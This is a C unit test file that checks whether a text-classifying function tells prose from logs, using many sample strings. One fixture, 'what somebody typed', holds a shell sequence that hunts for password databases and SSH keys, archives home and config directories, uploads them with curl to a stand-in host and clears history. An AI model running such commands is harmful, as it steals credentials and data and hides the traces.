/* test_prose: what is prose, and what might be a log after all. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "reader/prose.h"

#define LETTER                                                                                                         \
    "These files were handed over by the ministry, together with a letter that explains where each of them comes"
#define OFFICE                                                                                                         \
    "from; nobody has changed them since, and nobody should. Whoever has a question may ask the office, whose people"
#define HELP "know the old system well, and will be glad to help, at any time of the day, or of the night."
#define NOTE LETTER "\n" OFFICE "\n" HELP "\n"

static const struct {
    const char *name;
    str text;
    bool prose;
} cases[] = {
    {"a note", STR(NOTE), true},
    {"50 words", STR(LETTER "\n" OFFICE "\nknow the old system well, and will be glad to help you.\n"), true},
    {"with lines of DOS", STR(LETTER "\r\n" OFFICE "\r\n" HELP "\r\n"), true},
    {"without its last line end", STR(LETTER "\n" OFFICE "\n" HELP), true},
    {"with a heading and a list", STR("# Logs\n\n- " LETTER "\n- " OFFICE "\n- " HELP "\n"), true},
    {"a licence",
     STR("MIT License\n\nCopyright (c) 2021 Ann Example\n\nPermission is hereby granted, free of charge, to any "
         "person obtaining a copy of this software and associated documentation files (the \"Software\"), to deal "
         "in the Software without restriction, including without limitation the rights to use, copy, modify and "
         "sell copies of it, and to permit persons to do so.\n"),
     true},
    {"with a hash", STR(NOTE "Their hash is b8f64fe1561234567890eef6849aa2190390c, and it was taken twice.\n"), true},
    {"with versions", STR(NOTE "The program was release 3.11.7, section 4.1.2, chapter 12-3, page 7/9.\n"), true},
    {"with a list that is numbered", STR("1. " LETTER "\n2) " OFFICE "\n(3) " HELP "\n"), true},
    {"with a line that may begin so",
     STR(NOTE "may be the last of them, or not.\nMarch it was not.\nThat is all there is to say of it.\n"
              "So it is, as it was, and as it will be.\n"),
     true},
    {"with one line that begins as another",
     STR(NOTE LETTER ".\nThat is all, and there is no more to say of it.\nSo it is.\n"), true},
    {"in German",
     STR("Diese Dateien wurden vom Ministerium übergeben, zusammen mit einem Brief, der erklärt, woher jede kommt;\n"
         "niemand hat sie seither verändert, und niemand sollte es. Wer eine Frage hat, der frage das Amt, dessen\n"
         "Leute das alte System gut kennen, und die gerne helfen werden, auch am Abend, denn sie wohnen im Haus.\n"),
     true},

    {"nothing", STR(""), false},
    {"blank", STR(" \n \n"), false},
    {"too short to tell", STR("Read this first, please.\nThen the rest.\n"), false},
    {"49 words", STR(LETTER "\n" OFFICE "\nknow the old system well, and will be glad to help.\n"), false},
    {"one line", STR(LETTER " " OFFICE " " HELP "\n"), false},
    {"a time of day", STR(NOTE "It began at 7:12, he says.\n"), false},
    {"a time in brackets", STR(NOTE "It began early (07:12:03).\n"), false},
    {"a date", STR(NOTE "It began on 2021-03-14, he says.\n"), false},
    {"a date with slashes", STR(NOTE "It began on 3/14/21, he says.\n"), false},
    {"a date with points", STR(NOTE "It began on 14.3.2021, he says.\n"), false},
    {"a date with points, the year first", STR(NOTE "It began on 2021.03.14, he says.\n"), false},
    {"a short date with points", STR(NOTE "It began on 14.03.21, he says.\n"), false},
    {"a date without signs, and a time", STR(NOTE "It began at 20210314T0712, he says.\n"), false},
    {"the same as directories have it", STR(NOTE "It began at 20210314071203Z, he says.\n"), false},
    {"a time as the French have it", STR(NOTE "It began at 07h12, he says.\n"), false},
    {"a date with points and a time", STR(NOTE "It began on 14.3.2021 07:12.\n"), false},
    {"Unix time", STR(NOTE "It began at 1615705923, he says.\n"), false},
    {"Unix time at the end", STR(NOTE "t=1615705923"), false},
    {"an address", STR(NOTE "It came from 192.0.2.7, he says.\n"), false},
    {"an address in brackets", STR(NOTE "It came from mail[192.0.2.7], he says.\n"), false},
    {"a NUL", STR(NOTE "\0"), false},
    {"an escape", STR(NOTE "and \x1b[31m red.\n"), false},
    {"DEL", STR(NOTE "and \x7f.\n"), false},
    {"not UTF-8", STR(NOTE "caf\xe9.\n"), false},
    {"a character cut off", STR(NOTE "caf\xc3"), false},
    /* Logs whose times were cut off. */
    {"messages of a journal",
     STR("Started Daily apt download activities.\nStarted Session 12 of user root.\nReached target Timers.\n"
         "Created slice User Slice of UID 0.\nStarting Rotate log files...\nFinished Rotate log files.\n"
         "Listening on D-Bus socket, of the system.\nMounting Huge Pages File System...\nMounted Huge Pages File "
         "System.\n"
         "Stopping Session 12 of user root...\nRemoved slice User Slice of UID 0.\nStopped target Timers, and all of "
         "them.\n"
         "Finished Daily man-db regeneration.\n"),
     false},
    {"messages of an application",
     STR("User bob logged in from the office network without a second factor\nUser eve logged in from the office "
         "network without "
         "a second factor\nOnce more bob was logged out because of a timeout of the session\nThe server ann logged in "
         "from the "
         "office network without a second factor\nAn administrator changed the password of the user bob without a "
         "reason\n"),
     false},
    {"sentences of an application, time and again",
     STR("User ann has logged in, from the office, with a second factor.\nUser ann has logged out, because of a "
         "timeout of the "
         "session.\nUser ann has logged in, from the internet, without a second factor.\nUser ann has read the file, "
         "and the "
         "mail, of somebody else.\nUser ann has logged out, of her own will, at last.\n"),
     false},
    /* Logs whose times are written as few do. */
    {"days with points",
     STR("14.03.2021 Frau Meier, Zimmer zwölf: Zutritt gewährt, Begleitung durch Herrn Huber, Ausweis gesehen.\n"
         "15.03.2021 Herr Schmidt, Zimmer neun: Zutritt verweigert, kein Ausweis, Wachdienst wurde gerufen, er ging.\n"
         "16.03.2021 Frau Kaya, Serverraum: Zutritt gewährt, obwohl sie nicht auf der Liste stand, sagt der "
         "Wachdienst.\n"
         "17.03.2021 Herr Unbekannt, Serverraum: Zutritt verweigert, er sagte, er komme von der Firma, und ging dann.\n"
         "18.03.2021 Frau Meier, Archiv: Zutritt gewährt, Schlüssel ausgegeben, am Abend zurück, alles in Ordnung.\n"),
     false},
    {"times without colons",
     STR("20210314T071203 the user eve has changed the password of the account admin, from the office, and was seen.\n"
         "20210315T081203Z the user ann has bound with a weak method, which the server should not allow, but does.\n"
         "20210316T091203+0100 the server was asked for all members of the group of the administrators, by an unknown "
         "client.\n"
         "20210317T101203 the user bob was locked out, because of too many wrong passwords, and nobody was told of "
         "it.\n"),
     false},
    {"generalized time",
     STR("20210314071203Z the user eve has changed the password of the account admin, from the office, and was seen.\n"
         "20210315081203Z the user ann has bound with a weak method, which the server should not allow, but does.\n"
         "20210316091203Z the server was asked for all members of the group of the administrators, by an unknown "
         "client.\n"
         "20210317101203Z the user bob was locked out, because of too many wrong passwords, and nobody was told of "
         "it.\n"),
     false},
    {"days by name, and times with a point",
     STR("Sunday 14 March 2021, at 7.12 am: the user eve has changed the password of the account admin, and was seen.\n"
         "Monday 15 March 2021, at 9.12 am: the user ann has bound with a weak method, which the server should not "
         "allow.\n"
         "Tuesday 16 March 2021, at 11.12 am: the server was asked for all members of the group, by an unknown "
         "client.\n"
         "Friday 19 March 2021, at 5.12 pm: the user bob was locked out, because of too many wrong passwords, and "
         "left.\n"),
     false},
    {"days and times of six digits",
     STR("210314 071203 the user eve has changed the password of the account admin, from the office, and was seen.\n"
         "210315 081203 the user ann has bound with a weak method, which the server should not allow, but does.\n"
         "210316 091203 the server was asked for all members of the group of the administrators, by an unknown "
         "client.\n"
         "210317 101203 the user bob was locked out, because of too many wrong passwords, and nobody was told of "
         "it.\n"),
     false},
    {"seconds since the start",
     STR("[    0.000000] Linux version 5.10.0-8-amd64 (debian-kernel@lists.debian.org) (gcc-10 (Debian 10.2.1-6) "
         "10.2.1 20210110, GNU ld (GNU Binutils for Debian) 2.35.2) #1 SMP Debian\n"
         "[    1.023456] systemd: Detected virtualization kvm, and the architecture of the processor is another one, "
         "too.\n"
         "[    2.345678] audit: initializing netlink subsys (disabled), as nobody has asked for it on the command "
         "line.\n"
         "[    3.456789] random: crng init done, and missed messages were not told, because of the limit on their "
         "rate.\n"
         "[    5.567890] usb: new high speed device found, and the driver for it was loaded from the module of that "
         "name.\n"
         "[   17.678901] device: entered promiscuous mode, because of the program that has asked for it with a "
         "socket.\n"
         "[   29.789012] process: segfault of the program named sshd, at the address that was not mapped, error four "
         "in it.\n"),
     false},
    /* Other text. */
    {"names",
     STR("root daemon bin sys sync games man lp mail news uucp proxy backup list irc gnats nobody systemd messagebus\n"
         "ann bob eve mallory trent peggy victor walter carol dave erin frank grace heidi ivan judy mike niaj olivia\n"
         "oscar pat rupert sybil ted trudy vanna wendy zoe alice\n"),
     false},
    {"what somebody typed",
     STR("for u in $(cut -d: -f1 /etc/passwd); do echo \"$u\"; id \"$u\"; groups \"$u\"; done | tee /tmp/x && cat "
         "/tmp/x | sort\n"
         "find / -name '*.kdbx' -o -name '*.pst' -o -name 'id_*' 2>/dev/null | xargs ls -la >/tmp/y; cat /tmp/y | sort "
         "| uniq -c\n"
         "tar czf /tmp/z.tgz /home /srv /etc; curl -T /tmp/z.tgz http://a.example/up; rm -f /tmp/x /tmp/y /tmp/z.tgz; "
         "history -c\n"),
     false},
    {"a table",
     STR("name,door,granted,why,badge,site\nann,server room,no,\"not on the list, ever, and nobody knows why\",x,HQ\n"
         "bob,archive,yes,,y,HQ\neve,archive,no,\"has left, long since, and has not given back what she had\",z,HQ\n"
         "bob,server room,no,\"not on the list, ever\",y,HQ\neve,cellar,no,\"the cellar is shut, to all\",z,HQ\n"
         "ann,cellar,no,\"the cellar is shut, to all of them, at any time of the day\",x,HQ\nann,archive,yes,,x,HQ\n"),
     false},
};

static void told(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        if (prose_is(cases[i].text) != cases[i].prose)
            fail_msg("%s: is %s", cases[i].name, cases[i].prose ? "not prose" : "prose");
}

/* No byte behind the text is looked at: every beginning of every case, in a buffer of just that size. */
static void no_prefix_crashes(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        for (size_t len = 0; len <= cases[i].text.len; len++) {
            char *const exact = malloc(len ? len : 1);

            assert_non_null(exact);
            memcpy(exact, cases[i].text.ptr, len);
            (void)prose_is((str){exact, len});
            free(exact);
        }
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(told), cmocka_unit_test(no_prefix_crashes)};

    return cmocka_run_group_tests(tests, NULL, NULL);
}
